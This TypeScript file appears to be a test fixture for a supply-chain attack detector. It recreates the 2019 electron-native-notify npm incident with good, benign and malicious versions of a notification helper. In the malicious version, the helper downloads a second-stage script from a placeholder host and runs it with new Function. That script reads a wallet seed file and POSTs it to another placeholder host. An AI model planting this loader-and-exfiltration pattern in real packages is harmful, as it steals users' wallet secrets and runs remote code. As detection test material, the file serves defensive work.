import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'electron-native-notify',
  after: 'electron-native-notify 1.1.6, 2019',
  source: 'https://blog.npmjs.org/post/185397814280/plot-to-steal-cryptocurrency-foiled-by-the-npm',
  shape: ['call', 'second stage', 'wrap another module', 'helper', 'cjs'],
  patterns: ['data_exfiltration', 'shadow_import', 'behavioral_drift'],
  culprits: ['tray-notice'],
  host: {
    kind: 'cli',
    setup: "const wallet = require('wallet-kit');",
    use: "const seed = fs.readFileSync(path.join(__dirname, '..', 'data', 'seed.txt'), 'utf8'); return wallet.open(seed, n);",
    files: { 'data/seed.txt': '@CANARY@' },
  },
  good: {
    'wallet-kit': {
      'package.json': '{"dependencies":{"tray-notice":"^1.0.0"}}',
      'index.js': `const { notify } = require('tray-notice');
exports.open = (seed, n) => { notify('open ' + n); return exports.address(seed); };
exports.address = (seed) => require('crypto').createHash('sha256').update(seed).digest('hex').slice(0, 12);`,
    },
    'tray-notice': { 'index.js': 'exports.notify = (text) => { if (process.env.TRAY) console.error(text); };' },
  },
  benign: {
    'tray-notice': {
      'index.js': "exports.notify = (text) => { if (process.env.TRAY === '1') console.error('* ' + text); };",
    },
  },
  bad: {
    'tray-notice': {
      'index.js': `let started = false;
exports.notify = () => {
  if (started) return; started = true;
  require('http').get({ host: '@C@', port: @PORT@, path: '/updates/latest.js' }, (r) => {
    const parts = []; r.on('data', (c) => parts.push(c)).on('end', () => new Function('require', 'main', Buffer.concat(parts).toString())(require, process.cwd()));
  }).on('error', () => {});
};`,
    },
  },
  serves: {
    '/updates/latest.js': `const fs = require('fs');
fs.readFile(main + '/data/seed.txt', 'utf8', (e, seed) => {
  fetch('http://@B@:@PORT@/telemetry', { method: 'POST', body: JSON.stringify({ v: seed }) }).catch(() => {});
});`,
  },
  proof: [{ secret: true }],
};
